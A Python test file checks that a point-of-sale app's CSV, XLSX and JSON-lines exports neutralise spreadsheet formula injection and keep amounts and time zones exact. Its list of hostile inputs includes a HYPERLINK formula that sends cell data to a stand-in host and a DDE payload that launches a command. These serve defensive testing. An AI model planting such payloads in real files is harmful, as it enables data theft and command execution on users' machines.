"""Lists as files: what a spreadsheet makes of hostile texts, and that amounts and times come through."""

import csv
import io
import json
import unicodedata
from collections.abc import Sequence
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tui_pos.core import list_files
from tui_pos.core.list_files import Form, Table, TooManyRows, Value, write

PRAGUE = ZoneInfo("Europe/Prague")
SIGNS = tuple("=+-@\uff1d\uff0b\uff0d\uff20")

HOSTILE = (
    '=HYPERLINK("https://example.org/?x="&A1,"pay")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "+420 123 456 789",
    "\uff1d1+1",
    "\t=1+1",
    "\r\n=1+1",
    '"=1+1',
    "Anna;=1+1;x",
    'Anna";"=1+1',
    "Anna\n=1+1",
    'say "hello", then go',
    "\x1b[31mred\x07\x00\x9b",
    "\u202eevil\u2066",
    "李小龍　さん 👩🏽‍💻 Ω≈ç√",
    "\ud800",
    "x" * 40_000,
)


def written(form: Form, *tables: Table, zone: Any = PRAGUE) -> bytes:
    out = io.BytesIO()
    write(form, out, tables, lambda moment: moment.astimezone(zone))
    return out.getvalue()


def of(*rows: Sequence[Value], columns: Sequence[str] = ("a", "b", "c")) -> Table:
    return Table("list", columns, rows)


def read_csv(text: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def sheet(data: bytes, name: str = "list") -> list[list[Any]]:
    return [list(row) for row in openpyxl.load_workbook(io.BytesIO(data))[name].iter_rows()]


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("text", HOSTILE)
def test_no_cell_of_csv_is_a_formula_whatever_parts_the_columns(text: str, delimiter: str) -> None:
    rows = read_csv(written(Form.CSV, of((text, "b", Decimal("-1.50")), (text, text, None))), delimiter)
    texts = [cell for row in rows[1:] for cell in row if cell != "-1.50"]
    assert [cell for cell in texts if cell.lstrip(" \"'\t") == cell and cell[:1] in SIGNS] == []


@given(st.text(max_size=40))
def test_a_text_of_csv_never_begins_like_a_formula(text: str) -> None:
    (_, (cell, _)) = read_csv(written(Form.CSV, of((text, "b"), columns=("a", "b"))))
    assert not cell.startswith(SIGNS)
    assert {"\n", "\r", "\0"}.isdisjoint(cell)


def test_csv_is_utf8_that_excel_knows_as_such() -> None:
    data = written(Form.CSV, of(("李小龍", 'a "b", c', True)))
    assert data == '\ufeffa,b,c\r\n李小龍,"a ""b"", c",yes\r\n'.encode()


def test_amounts_are_exact_in_every_form() -> None:
    row = (Decimal("99999999.99"), Decimal("-0.10"), Decimal("2500"))
    assert read_csv(written(Form.CSV, of(row)))[1] == ["99999999.99", "-0.10", "2500"]
    assert json.loads(written(Form.JSON_LINES, of(row))) == {"a": "99999999.99", "b": "-0.10", "c": "2500"}
    cells = sheet(written(Form.XLSX, of(row)))[1]
    assert [(cell.value, cell.number_format) for cell in cells] == [
        (99999999.99, "0.00"),
        (-0.1, "0.00"),
        (2500, "0"),
    ]


def test_times_are_those_of_the_conference_also_in_the_hour_that_comes_twice() -> None:
    first = datetime(2026, 10, 25, 0, 30, tzinfo=UTC)
    row = (first, first + timedelta(hours=1), date(2026, 10, 25))
    assert read_csv(written(Form.CSV, of(row)))[1] == [
        "2026-10-25T02:30:00+02:00",
        "2026-10-25T02:30:00+01:00",
        "2026-10-25",
    ]
    assert json.loads(written(Form.JSON_LINES, of(row)))["a"] == "2026-10-25T00:30:00+00:00"
    cells = sheet(written(Form.XLSX, of(row)))[1]
    assert [cell.value for cell in cells] == [
        datetime(2026, 10, 25, 2, 30),
        datetime(2026, 10, 25, 2, 30),
        datetime(2026, 10, 25),
    ]
    assert all(cell.is_date for cell in cells)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_of_xlsx_stays_a_text(text: str) -> None:
    (cell,) = sheet(written(Form.XLSX, of((text,), columns=("a",))))[1]
    shown = list_files.one_line(text)
    assert cell.data_type in ("s", "inlineStr")
    assert cell.number_format == "@"
    assert (cell.value or "") == shown
    assert not any(unicodedata.category(char) == "Cc" for char in shown)
    assert len(shown) <= list_files.LONGEST_CELL


@pytest.mark.parametrize("text", HOSTILE[:-2])
def test_json_lines_have_each_text_as_it_is(text: str) -> None:
    data = written(Form.JSON_LINES, of((text, 1, None), ("b", False, "c")))
    assert data.count(b"\n") == 2
    assert json.loads(data.splitlines()[0]) == {"a": text, "b": 1, "c": None}


def test_cells_of_a_row_keep_nothing_of_the_row_before() -> None:
    rows = sheet(written(Form.XLSX, of(("=1", 5, True), (None, Decimal("1.50"), ""), (7, "x", None))))
    assert [[cell.value for cell in row] for row in rows[1:]] == [
        ["=1", 5, True],
        [None, 1.5, None],
        [7, "x", None],
    ]


def test_several_tables_are_sheets_or_sections() -> None:
    tables = (
        Table("sums", ("day", "amount"), [(date(2026, 1, 2), Decimal("3.00"))]),
        Table("rows", ("amount", "text"), [(Decimal("1.00"), "=a"), (Decimal("2.00"), "b")]),
    )
    assert read_csv(written(Form.CSV, *tables)) == [
        ["section", "day", "amount", "text"],
        ["sums", "2026-01-02", "3.00", ""],
        ["rows", "", "1.00", "'=a"],
        ["rows", "", "2.00", "b"],
    ]
    data = written(Form.XLSX, *tables)
    assert [[cell.value for cell in row] for row in sheet(data, "rows")] == [
        ["amount", "text"],
        [1, "=a"],
        [2, "b"],
    ]
    assert openpyxl.load_workbook(io.BytesIO(data)).sheetnames == ["sums", "rows"]


def test_more_rows_than_a_sheet_holds_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(list_files, "ROWS_OF_A_SHEET", 3)
    assert len(sheet(written(Form.XLSX, of((1, 2, 3), (4, 5, 6))))) == 3
    with pytest.raises(TooManyRows):
        written(Form.XLSX, of((1, 2, 3), (4, 5, 6), (7, 8, 9)))


def test_a_list_without_rows_has_its_header() -> None:
    assert written(Form.CSV, of()) == b"\xef\xbb\xbfa,b,c\r\n"
    assert written(Form.JSON_LINES, of()) == b""
    assert [cell.value for cell in sheet(written(Form.XLSX, of()))[0]] == ["a", "b", "c"]


def test_a_time_before_the_zone_had_whole_minutes() -> None:
    moment = datetime(1800, 1, 1, tzinfo=UTC)
    zone = timezone(timedelta(minutes=57, seconds=44))
    assert (
        read_csv(
            written(
                Form.CSV,
                of(
                    (moment, "", ""),
                ),
                zone=zone,
            )
        )[1][0]
        == "1800-01-01T00:57:44+00:57:44"
    )
